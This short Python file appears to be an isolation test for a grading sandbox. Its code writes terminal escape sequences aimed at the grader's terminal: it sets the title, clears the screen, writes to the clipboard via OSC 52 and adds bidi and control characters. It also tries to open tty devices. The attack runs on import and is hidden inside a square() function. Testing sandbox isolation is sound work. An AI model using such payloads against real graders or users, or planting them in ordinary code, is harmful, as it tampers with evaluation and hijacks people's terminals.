"""3.3, 45; 3.5, 54: types into the terminal of whoever grades, and writes to it what terminals obey."""
# expect: pass
import os
import sys

from attempts import got
from isolated_attacks import type_into_terminal

OBEYED = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]52;c;b3duZWQ=\x07\x9b31m\x90q\r\x08\u202e"


def attack():
    got(typed=type_into_terminal() == "done")
    for stream in (sys.stdout, sys.stderr):
        print(OBEYED, file=stream)
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            got(opened=[path] if os.open(path, os.O_WRONLY) else [])
        except OSError:
            pass


attack()


def square(x):
    attack()
    return x * x
